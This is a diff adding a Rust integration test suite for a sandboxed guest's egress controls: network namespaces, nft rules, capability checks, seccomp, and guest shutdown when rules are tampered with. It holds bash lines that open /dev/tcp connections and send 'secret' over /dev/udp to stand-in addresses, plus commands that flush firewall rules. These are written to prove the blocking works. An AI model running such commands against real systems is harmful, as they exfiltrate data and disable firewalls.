@@ -1,0 +1,236 @@
+//! `confide-guest boot` on the simulated platform, as a process in a network of its own.
+#![cfg(feature = "danger-simulator")]
+#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::print_stdout, reason = "tests")]
+#![allow(dead_code, reason = "shared with other tests")]
+
+mod harness;
+
+use std::io::{BufRead as _, BufReader, Lines};
+use std::os::unix::fs::PermissionsExt as _;
+use std::process::{Child, ChildStdout, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use harness::{Installation, PATIENCE, model_files, program, signal};
+use serde_json::Value;
+
+const POLICY: &str = "[egress]\ninline = '''\nformat = \"confide-egress-policy/1\"\nname = \"test\"\nlog = \"drops\"\n\
+    [[bootstrap]]\ncidr = \"198.51.100.0/24\"\nports = [80]\nprotocol = \"tcp\"\n\
+    [[serving]]\ncidr = \"198.51.100.0/24\"\nports = [80]\nprotocol = \"tcp\"\n'''\n";
+/// The bits of CAP_NET_ADMIN, by which rules are changed, and of CAP_NET_RAW, by which frames are written that pass no hook of IP or ARP
+/// (capabilities(7), `linux/capability.h`).
+const PAST_RULES: u64 = 1 << 12 | 1 << 13;
+
+/// A guest that serves, in a network of its own.
+struct Booted {
+    child: Child,
+    console: Lines<BufReader<ChildStdout>>,
+    steps: Vec<String>,
+    installation: Installation,
+}
+
+impl Drop for Booted {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Whether this machine lets a test boot.
+fn can_boot() -> bool {
+    let probe = "nft list ruleset && test \"$(id -u)\" = 0 && setpriv --reuid=990 true";
+    let probe = Command::new("unshare").args(["-n", "sh", "-c", probe]).output();
+    let can = probe.as_ref().is_ok_and(|output| output.status.success());
+    if !can {
+        println!("not run: a boot in a network of its own: it takes root and nft: {probe:?}");
+    }
+    can
+}
+
+impl Booted {
+    fn start(tables: &str) -> Self {
+        let installation = Installation::new(&model_files(7), tables);
+        // The engine is another user.
+        let folder = installation.model().parent().unwrap().to_owned();
+        std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let log = std::fs::File::create(installation.log()).unwrap();
+        let mut command = Command::new("unshare");
+        command.arg("-n").arg(program().get_program()).arg("boot");
+        command.arg("--config").arg(installation.config()).stdout(Stdio::piped()).stderr(log);
+        let mut child = command.spawn().unwrap();
+        let console = BufReader::new(child.stdout.take().unwrap()).lines();
+        let mut booted = Self { child, console, steps: Vec::new(), installation };
+        loop {
+            let line = booted.line();
+            match line["event"].as_str().unwrap() {
+                "boot" => booted.steps.push(line["step"].as_str().unwrap().to_owned()),
+                "ready" => return booted,
+                _ => panic!("{line}\n{}", booted.log()),
+            }
+        }
+    }
+
+    /// The next line of the console.
+    fn line(&mut self) -> Value {
+        let line = self.console.next().unwrap_or_else(|| panic!("it ended: {}", self.log())).unwrap();
+        serde_json::from_str(&line).unwrap()
+    }
+
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.installation.log()).unwrap()
+    }
+
+    /// Waits until the log has this.
+    fn logs(&self, text: &str) -> bool {
+        let begun = Instant::now();
+        while begun.elapsed() < PATIENCE {
+            if self.log().contains(text) {
+                return true;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        false
+    }
+
+    /// The child that was started with this argument.
+    fn child(&self, argument: &str) -> Option<u32> {
+        let tasks = std::fs::read_dir(format!("/proc/{}/task", self.child.id())).unwrap();
+        let children: String = tasks
+            .map(|task| std::fs::read_to_string(task.unwrap().path().join("children")).unwrap_or_default())
+            .collect();
+        let mut children = children.split_whitespace().map(|pid| pid.parse::<u32>().unwrap());
+        children.find(|pid| {
+            let arguments = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            arguments.split('\0').nth(1) == Some(argument)
+        })
+    }
+
+    /// What the guest says last, and its exit status.
+    fn end(&mut self) -> (Value, Option<i32>) {
+        let last = self.line();
+        (last, self.child.wait().unwrap().code())
+    }
+}
+
+/// The network namespace of a process' first thread.
+fn network(pid: u32) -> std::path::PathBuf {
+    std::fs::read_link(format!("/proc/{pid}/ns/net")).unwrap()
+}
+
+/// The users and the capabilities of every thread of a process.
+fn privileges(pid: u32) -> Vec<(String, Vec<u64>)> {
+    let threads = std::fs::read_dir(format!("/proc/{pid}/task")).unwrap();
+    let statuses =
+        threads.map(|thread| std::fs::read_to_string(thread.unwrap().path().join("status")).unwrap());
+    statuses
+        .map(|status| {
+            let field = |name: &str| {
+                let value = status.lines().find_map(|line| line.strip_prefix(name)).unwrap();
+                value.split_whitespace().next().unwrap().to_owned()
+            };
+            let sets = ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"];
+            (field("Uid:"), sets.map(|set| u64::from_str_radix(&field(set), 16).unwrap()).to_vec())
+        })
+        .collect()
+}
+
+/// Whether every thread of a process is under a filter of system calls.
+fn is_filtered(pid: u32) -> bool {
+    let threads = std::fs::read_dir(format!("/proc/{pid}/task")).unwrap();
+    let mut statuses =
+        threads.map(|thread| std::fs::read_to_string(thread.unwrap().path().join("status")).unwrap());
+    statuses.all(|status| status.contains("\nSeccomp:\t2\n"))
+}
+
+/// Runs a script in a process' network; whether it succeeds.
+fn within(pid: u32, script: &str) -> bool {
+    let mut command = Command::new("nsenter");
+    command.args(["-t", &pid.to_string(), "-n", "sh", "-c", script]).stderr(Stdio::null());
+    command.stdout(Stdio::null()).status().unwrap().success()
+}
+
+#[test]
+fn a_boot_keeps_workload_and_broker_to_the_policy_and_nobody_can_change_it() {
+    if !can_boot() {
+        return;
+    }
+    let mut guest = Booted::start(POLICY);
+    let expected = [
+        "configuration-read",
+        "egress-bootstrap",
+        "network",
+        "egress-broker",
+        "measured",
+        "no-volumes",
+        "egress-locked",
+        "dropped",
+        "model",
+        "devices",
+        "open",
+    ];
+    assert_eq!(guest.steps, expected);
+    let (pid, broker) = (guest.child.id(), guest.child("egress-broker").unwrap());
+    let engine = guest.child("engine").unwrap();
+    assert_eq!(network(broker), network(pid));
+    assert_ne!(network(engine), network(pid));
+    for (process, user) in [(pid, "0"), (broker, "990"), (engine, "1000")] {
+        for (found, sets) in privileges(process) {
+            assert_eq!(found, user);
+            assert!(sets.iter().all(|set| set & PAST_RULES == 0), "{user}: {sets:x?}");
+            assert!(user == "0" || sets[..3].iter().all(|set| *set == 0), "{user}: {sets:x?}");
+        }
+        assert!(user == "0" || is_filtered(process), "{user}");
+    }
+    // The engine's network leads to the broker, and all else is dropped; both have records.
+    assert!(within(engine, "nft list ruleset | grep -q 'redirect to :15001'"));
+    assert!(within(pid, "nft list ruleset | grep -q 'skuid 990'"));
+    within(engine, "timeout 5 bash -c 'exec 3<>/dev/tcp/1.2.3.4/443; cat <&3'");
+    assert!(guest.logs("host_not_listed") && guest.logs("1.2.3.4:443/tcp"), "{}", guest.log());
+    within(engine, "bash -c 'echo secret > /dev/udp/192.0.2.7/9'");
+    assert!(guest.logs("packet_dropped") && guest.logs("192.0.2.7:9/udp"), "{}", guest.log());
+    // What leaves the guest's own network is the broker's alone.
+    assert!(!within(pid, "bash -c 'echo secret > /dev/udp/192.0.2.7/9'"));
+    signal("TERM", pid);
+    assert!(guest.child.wait().unwrap().success(), "{}", guest.log());
+    let begun = Instant::now();
+    while std::path::Path::new(&format!("/proc/{broker}/fd")).exists() && begun.elapsed() < PATIENCE {
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(begun.elapsed() < PATIENCE, "the broker outlives its guest");
+}
+
+#[test]
+fn a_guest_ends_when_its_rules_change_or_its_broker_is_lost() {
+    if !can_boot() {
+        return;
+    }
+    type Change = fn(&Booted);
+    let changes: [(&str, Change); 3] = [
+        ("egress_rules_changed", |guest| assert!(within(guest.child.id(), "nft add table inet x"))),
+        ("egress_rules_changed", |guest| {
+            assert!(within(guest.child("engine").unwrap(), "nft flush ruleset"))
+        }),
+        ("egress_broker_lost", |guest| signal("KILL", guest.child("egress-broker").unwrap())),
+    ];
+    for (code, change) in changes {
+        let mut guest = Booted::start(POLICY);
+        change(&guest);
+        let (last, status) = guest.end();
+        assert_eq!((&last["event"], &last["code"]), (&"failed".into(), &code.into()), "{last}");
+        assert!(last["action"].as_str().is_some_and(|action| !action.is_empty()), "{last}");
+        assert_eq!(status, Some(1));
+    }
+}
+
+#[test]
+fn without_anything_to_let_through_no_broker_is_started() {
+    if !can_boot() {
+        return;
+    }
+    let guest = Booted::start("");
+    assert!(!guest.steps.iter().any(|step| step == "egress-broker"), "{:?}", guest.steps);
+    assert_eq!(guest.child("egress-broker"), None);
+    let engine = guest.child("engine").unwrap();
+    assert_ne!(network(engine), network(guest.child.id()));
+    within(engine, "timeout 5 bash -c 'exec 3<>/dev/tcp/1.2.3.4/443'");
+    assert!(guest.logs("packet_dropped") && guest.logs("1.2.3.4:443/tcp"), "{}", guest.log());
+}
